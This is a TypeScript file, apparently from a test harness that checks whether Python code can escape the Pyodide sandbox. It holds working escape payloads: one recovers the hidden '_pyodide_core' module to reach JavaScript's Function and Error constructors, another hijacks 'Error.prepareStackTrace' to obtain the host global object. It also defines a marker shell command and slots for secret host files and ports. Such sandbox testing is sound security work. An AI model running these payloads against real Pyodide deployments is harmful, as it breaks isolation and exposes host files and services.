/**
 * A way out of Pyodide: prints `ESCAPED` or leaves the file `MARK` behind when it gets somewhere; `SECRET` is a file of
 * the host, `PORT` a listening port of it.
 */
export interface Attack {
  readonly name: string;
  readonly code: string;
}

/** A command of the host's shell. */
export const touch = 'echo out > MARK';

/** Python that gets behind the seal, to Pyodide's bridge: `core`, and JavaScript's `Function`, `Object` and `Error`. */
export const pastTheSeal = `import _imp, importlib.machinery as m
cells = [cell.cell_contents for cell in getattr(_imp.create_builtin, "__closure__", None) or ()]
create = next((c for c in cells if type(c).__name__ == "builtin_function_or_method"), _imp.create_builtin)
core = create(m.ModuleSpec("_pyodide_core", None))
Function = core.create_once_callable(print).constructor
Object = core.to_js({"a": 1}).constructor
try:
    Function("}{")
except core.JsException as error:
    Error = Object.getPrototypeOf(error.constructor)`;

/** Behind that: `world()` gives the context's global object, and `seen` all that the frames of the stack show. */
export const globalObject = `seen = []
def look(error, frames):
    for frame in frames:
        for get in (frame.getThis, frame.getFunction):
            try:
                value = get()
            except Exception:
                continue
            if value is not None:
                seen.append(value)
    return "x"
def world():
    Error.stackTraceLimit = 1000
    Error.prepareStackTrace = core.create_proxy(look)
    str(Error.new("x").stack)
    return next(value for value in seen if hasattr(value, "WebAssembly"))`;

/** A list of attacks from names and code. */
export function named(pairs: readonly (readonly string[])[]): readonly Attack[] {
  return pairs.map(([name = '', code = '']) => ({ name, code }));
}

/** An attack's code for this host. */
export function aim(attack: Attack, mark: string, secret: string, port: number): string {
  return attack.code.replaceAll('MARK', mark).replaceAll('SECRET', secret).replaceAll('PORT', String(port));
}
